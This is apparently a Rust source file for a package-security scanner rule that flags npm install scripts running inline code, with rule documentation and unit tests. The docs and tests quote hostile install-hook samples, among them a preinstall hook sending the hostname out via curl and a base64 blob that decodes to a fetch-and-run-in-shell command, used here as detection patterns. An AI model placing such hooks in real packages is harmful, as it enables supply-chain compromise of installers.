//! `install-script-inline-code`: an install script that runs code written inline in the
//! command (`node -e`, `sh -c`, `eval`, `python -c`, `base64 -d | sh`).

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::install_script::{lifecycle_scripts, Action};
use super::{PackageFacts, PackageRule, RuleInfo};

pub struct InstallScriptInlineCode;

static INFO: RuleInfo = RuleInfo {
    id: "install-script-inline-code",
    severity: Severity::Moderate,
    confidence: Confidence::Medium,
    capabilities: &[Capability::InstallScript, Capability::Eval],
    summary: "An install script runs inline code (node -e, eval, python -c, base64 -d | sh)",
    docs: r#"## What it detects

Code passed on the command line of a lifecycle script: `node -e "…"`, `node --eval`,
`bun -e`, `deno eval`, `python -c`, `perl -e`, shell `eval`, a PowerShell command string, or
a decoded blob piped into a shell (`echo … | base64 -d | sh`). Moderate; **high** when the
inline code spawns processes, evaluates or decodes more code, or reads `process.env`, home
directory files or `.npmrc`. Inline code that uses the network is also reported by
`install-script-download`.

Inline JavaScript (`node -e`, `bun -e`, `deno eval`, …) is also parsed and checked by every
file rule under the name `package.json#<event>` (for example `package.json#preinstall`), as a
file the install hook runs: a base64 payload `eval`ed from the command line is decoded and
read like one in a shipped file.

## Real attacks

- Dependency-confusion and "research" packages: `preinstall: node -e "require('child_process')
  .exec('curl …' + require('os').hostname())"`.
- Typosquats that hide a base64 payload in package.json: `postinstall: echo <b64> | base64 -d
  | bash`.

## Known false positives

One-liners that print a message, check the Node version or copy a file
(`node -e "try{require('./postinstall')}catch(e){}"`) — moderate, not suspicious alone.
"#,
};

impl PackageRule for InstallScriptInlineCode {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for script in lifecycle_scripts(package) {
            for action in &script.actions {
                let Action::InlineCode {
                    interpreter,
                    code,
                    risky,
                    ..
                } = action
                else {
                    continue;
                };
                let (severity, what) = if *risky {
                    (
                        Severity::High,
                        "that spawns processes, decodes or evaluates code, or reads secrets",
                    )
                } else {
                    (Severity::Moderate, "written in the command")
                };
                let message = format!("`{}` script runs inline {interpreter} code {what}", script.event);
                out.push(
                    Finding::new(INFO.id, severity, INFO.confidence, message)
                        .at("package.json", script.line)
                        .with_evidence(code)
                        .with_capabilities(INFO.capabilities),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::install_script::testing::{manifest_with_scripts, run};
    use super::*;

    fn check(command: &str) -> Vec<Finding> {
        let manifest = manifest_with_scripts(&[("postinstall", command)]);
        run(&InstallScriptInlineCode, &[("package.json", &manifest)])
    }

    #[test]
    fn risky_inline_code_is_high() {
        for command in [
            "node -e \"require('child_process').execSync('id > /tmp/x')\"",
            "echo Y3VybCBodHRwOi8vZS9wIHwgc2g= | base64 -d | sh",
            "python3 -c 'import os; os.system(\"id\")'",
            "node --eval=\"eval(Buffer.from(process.env.X, 'base64').toString())\"",
        ] {
            let findings = check(command);
            assert_eq!(findings.len(), 1, "{command}: {findings:?}");
            assert_eq!(findings[0].severity, Severity::High, "{command}");
        }
    }

    #[test]
    fn harmless_one_liner_is_moderate() {
        let findings = check("node -e \"console.log('thanks for installing')\"");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Moderate);
    }

    #[test]
    fn files_and_tools_are_not_inline_code() {
        for command in ["node install.js", "node-gyp rebuild", "tsc -p ."] {
            assert!(check(command).is_empty(), "{command}");
        }
    }
}
